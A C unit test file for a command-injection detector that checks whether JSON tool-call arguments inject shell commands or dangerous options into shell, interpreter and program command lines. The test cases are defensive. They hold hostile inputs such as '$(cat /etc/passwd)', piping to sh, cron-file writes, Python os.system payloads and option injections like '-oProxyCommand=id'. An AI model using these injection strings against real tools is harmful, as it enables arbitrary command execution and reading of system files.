/* SPDX-License-Identifier: Apache-2.0 */
/* test_inject.c - arguments in the command lines of shells, interpreters, programs */
#include "support.h"

#include "core/inject.h"

#define ARGV(...) ((const char *const[]){ __VA_ARGS__, NULL })

static enum mw_inject find_json(const char *exe, const char *const *argv, const char *json)
{
	struct mw_args *args;
	enum mw_inject r;
	char text[16384];
	size_t n = 0;

	for (; *argv; argv++) {
		memcpy(text + n, *argv, strlen(*argv) + 1);
		n += strlen(*argv) + 1;
	}
	assert_int_equal(mw_args_new(&test_alloc, mw_slice_str(json), 1 << 20, &args), 0);
	r = mw_inject_find(mw_slice_str(exe), mw_slice(text, n), args);
	mw_args_free(args);
	return r;
}

/* sh -c TEXT, of a call with one argument (as it stands in JSON). */
static enum mw_inject in_sh(const char *text, const char *arg)
{
	char json[4096];

	snprintf(json, sizeof(json), "{\"x\":\"%s\"}", arg);
	return find_json("/usr/bin/dash", ARGV("sh", "-c", text), json);
}

#define shell(text, arg) assert_int_equal(in_sh(text, arg), MW_INJECT_SHELL)
#define quiet(text, arg) assert_int_equal(in_sh(text, arg), MW_INJECT_NONE)

static void test_shell(void **state)
{
	shell("ping -c 1 8.8.8.8; id", "8.8.8.8; id");
	shell("ping -c 1 8.8.8.8;id", "8.8.8.8;id");
	shell("ping -c 1 x && curl http://a/", "x && curl http://a/");
	shell("ls $(cat /etc/passwd)", "$(cat /etc/passwd)");
	shell("ls `id`", "`id`");
	shell("ls \"$(id)\"", "$(id)");
	shell("ls \"$HOME\"", "$HOME");
	shell("ls \"x\"; id; \"\"", "x\\\"; id; \\\"");
	shell("ls 'x'; id; ''", "x'; id; '");
	shell("cat a > /etc/cron.d/x", "a > /etc/cron.d/x");
	shell("cat a\nid", "a\\nid");
	shell("cd /x && git log a|sh", "a|sh");
	shell("convert $(echo a; rm b) c", "a; rm b");
	/* code that was evaluated */
	shell("id > /tmp/x; echo 4", "__import__('os').popen('id > /tmp/x; echo 4').read()");
	quiet("make all", "cd src && make all");
	quiet("make all", "make all");
	/* white space that the server took off */
	shell("ping 8.8.8.8; id", "  8.8.8.8; id\\n");
}

static void test_quoted(void **state)
{
	quiet("ping -c 1 '8.8.8.8; id'", "8.8.8.8; id");
	quiet("ping -c 1 \"8.8.8.8; id\"", "8.8.8.8; id");
	quiet("ls '$(id)' '`id`'", "$(id)");
	quiet("ls 'it'\"'\"'s; id'", "it's; id");
	quiet("ls 8.8.8.8\\;\\ id", "8.8.8.8; id");
	quiet("grep -E 'a|b' f", "a|b");
	quiet("echo \"costs 5$ & more\"", "costs 5$ & more");
	quiet("ls /tmp/a /tmp/b", "/tmp/a");
	quiet("ls x; id", "x");
	quiet("ls; id", "something; else");
}

/* A tool that runs commands. */
static void test_command(void **state)
{
	quiet("ls | wc -l", "ls | wc -l");
	quiet("cd /project && ls | wc -l", "ls | wc -l");
	quiet("set -e; make && make test", "make && make test");
	quiet("timeout 30 make && make test", "make && make test");
	quiet("A=b sudo -n make | tail", "make | tail");
	quiet("( ls | wc -l ) 2>&1", "ls | wc -l");
	quiet("{ ls | wc -l; } 2>&1", "ls | wc -l");
	shell("git ls | wc -l", "ls | wc -l");
}

static void test_which(void **state)
{
	const char *json = "{\"h\":\"a; id\"}";

	assert_int_equal(find_json("/bin/bash", ARGV("bash", "-lc", "ping a; id"), json),
			 MW_INJECT_SHELL);
	assert_int_equal(
	    find_json("/bin/bash", ARGV("bash", "-eo", "pipefail", "-c", "ping a; id"), json),
	    MW_INJECT_SHELL);
	assert_int_equal(
	    find_json("/bin/bash", ARGV("/bin/bash", "--norc", "-c", "ping a; id"), json),
	    MW_INJECT_SHELL);
	assert_int_equal(
	    find_json("/usr/bin/env", ARGV("env", "A=b", "sh", "-c", "ping a; id"), json),
	    MW_INJECT_SHELL);
	assert_int_equal(find_json("/bin/busybox", ARGV("busybox", "sh", "-c", "ping a; id"), json),
			 MW_INJECT_SHELL);
	assert_int_equal(find_json("/usr/bin/docker",
				   ARGV("docker", "exec", "c", "sh", "-c", "ping a; id"), json),
			 MW_INJECT_SHELL);
	assert_int_equal(
	    find_json("/usr/bin/ssh", ARGV("ssh", "-p", "22", "host", "ping a; id"), json),
	    MW_INJECT_SHELL);
	assert_int_equal(find_json("/bin/su", ARGV("su", "joe", "-c", "ping a; id"), json),
			 MW_INJECT_SHELL);
	/* a script's own argument, and no shell */
	assert_int_equal(find_json("/bin/sh", ARGV("sh", "script.sh", "a; id"), json),
			 MW_INJECT_NONE);
	assert_int_equal(find_json("/bin/sh", ARGV("sh", "-c", "ping \"$1\"", "_", "a; id"), json),
			 MW_INJECT_NONE);
	assert_int_equal(find_json("/bin/ping", ARGV("ping", "a; id"), json), MW_INJECT_NONE);
}

static void test_code(void **state)
{
	const char *code = "print('x'); import os; os.system('id')#')";

	assert_int_equal(find_json("/usr/bin/python3.11", ARGV("python3", "-c", code),
				   "{\"x\":\"x'); import os; os.system('id')#\"}"),
			 MW_INJECT_SHELL);
	assert_int_equal(find_json("/usr/bin/node", ARGV("node", "-e", "f(`a${process.exit()}`)"),
				   "{\"x\":\"a${process.exit()}\"}"),
			 MW_INJECT_SHELL);
	/* the code is what the tool is for; the value stays in its quotes */
	assert_int_equal(find_json("/usr/bin/python3",
				   ARGV("python3", "-c", "print('a'); f(\"b\")"),
				   "{\"x\":\"print('a'); f(\\\"b\\\")\"}"),
			 MW_INJECT_NONE);
	assert_int_equal(find_json("/usr/bin/python3", ARGV("python3", "-c", "print('it is; so')"),
				   "{\"x\":\"it is; so\"}"),
			 MW_INJECT_NONE);
}

static void test_option(void **state)
{
	const char *json =
	    "{\"x\":\"--upload-pack=touch /tmp/x\",\"y\":\"-oProxyCommand=id\",\"z\":\"-exec\","
	    "\"t\":\"--checkpoint-action=exec=sh\",\"u\":\"-o/etc/cron.d/x\",\"v\":\"--oneline\"}";

	assert_int_equal(find_json("/usr/bin/git",
				   ARGV("git", "fetch", "--upload-pack=touch /tmp/x", "o"), json),
			 MW_INJECT_OPTION);
	assert_int_equal(find_json("/usr/bin/ssh", ARGV("ssh", "-oProxyCommand=id", "h"), json),
			 MW_INJECT_OPTION);
	assert_int_equal(find_json("/usr/bin/find", ARGV("find", ".", "-exec", "id", ";"), json),
			 MW_INJECT_OPTION);
	assert_int_equal(
	    find_json("/usr/bin/tar", ARGV("tar", "cf", "a", "--checkpoint-action=exec=sh"), json),
	    MW_INJECT_OPTION);
	assert_int_equal(
	    find_json("/usr/bin/curl", ARGV("curl", "-o/etc/cron.d/x", "http://a"), json),
	    MW_INJECT_OPTION);
	/* behind "--", harmless, not of the arguments */
	assert_int_equal(find_json("/usr/bin/git",
				   ARGV("git", "fetch", "--", "--upload-pack=touch /tmp/x"), json),
			 MW_INJECT_NONE);
	assert_int_equal(find_json("/usr/bin/git", ARGV("git", "log", "--oneline"), json),
			 MW_INJECT_NONE);
	assert_int_equal(find_json("/usr/bin/git", ARGV("git", "log", "--output=x"), json),
			 MW_INJECT_NONE);
	/* a tool that runs what it is told */
	assert_int_equal(find_json("/usr/bin/find", ARGV("find", ".", "-delete"),
				   "{\"command\":\"find\",\"args\":[\".\",\"-delete\"]}"),
			 MW_INJECT_NONE);
}

static void test_edges(void **state)
{
	quiet("", "a; b");
	quiet("a\\", "a; b");
	quiet("((((((((((((((((((((((((((((((((((((((((", "a; b");
	shell("x ))))) a; b", "a; b");
	assert_int_equal(find_json("", ARGV(""), "{}"), MW_INJECT_NONE);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_shell),	cmocka_unit_test(test_quoted),
		cmocka_unit_test(test_command), cmocka_unit_test(test_which),
		cmocka_unit_test(test_code),	cmocka_unit_test(test_option),
		cmocka_unit_test(test_edges),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
